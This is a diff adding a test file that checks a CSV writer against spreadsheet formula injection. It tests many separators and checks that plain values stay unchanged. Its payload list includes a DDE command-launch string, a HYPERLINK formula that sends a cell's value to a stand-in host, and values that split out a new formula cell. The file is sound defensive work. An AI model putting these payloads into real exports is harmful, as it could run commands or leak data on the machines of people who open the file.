@@ -1,0 +1,44 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { parse } from "csv-parse/sync";
+import { csvLine, inertText } from "./spreadsheet-cell.ts";
+
+/** How spreadsheets split a line: by the sign that the country uses, whatever the quotes say once a cell did not begin with one. */
+const SPLITS = [/[,\r\n]/, /[;\r\n]/, /[\t\r\n]/, /[|\r\n]/];
+const FORMULA = /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
+
+const ATTACKS = [
+  "=1+1",
+  "+1",
+  "-1+cmd|' /C calc'!A0",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  "\n=1",
+  "  =1",
+  "\u{a0}=1",
+  '"=1+1"',
+  'x","=1+1',
+  "x;=1+1",
+  "x\t=1+1",
+  "x\r\n=1+1",
+  "\uff1d1+1",
+  '=HYPERLINK("https://evil.example/?"&A1,"ok")',
+];
+
+test("no text becomes a formula in a CSV file, whichever sign the spreadsheet splits at", () => {
+  for (const attack of ATTACKS) {
+    const line = csvLine(["before", attack, "after"]);
+    for (const split of SPLITS) {
+      for (const cell of line.split(split)) assert.doesNotMatch(cell, FORMULA, JSON.stringify([attack, line]));
+    }
+    const [cells] = parse(line) as string[][];
+    assert.equal(cells?.length, 3, attack);
+    assert.equal(cells?.[1]?.replaceAll("'", ""), attack.replaceAll("'", ""), "only apostrophes are added");
+  }
+});
+
+test("what is no formula stays as it is; numbers, nothing and true are written plainly", () => {
+  for (const text of ["", "web-1", "a@example.com", "1-2", "x=y", "two words"]) assert.equal(inertText(text), text);
+  assert.equal(csvLine(["a", -1, null, true, "b,c"]), 'a,-1,,true,"b,c"\r\n');
+});
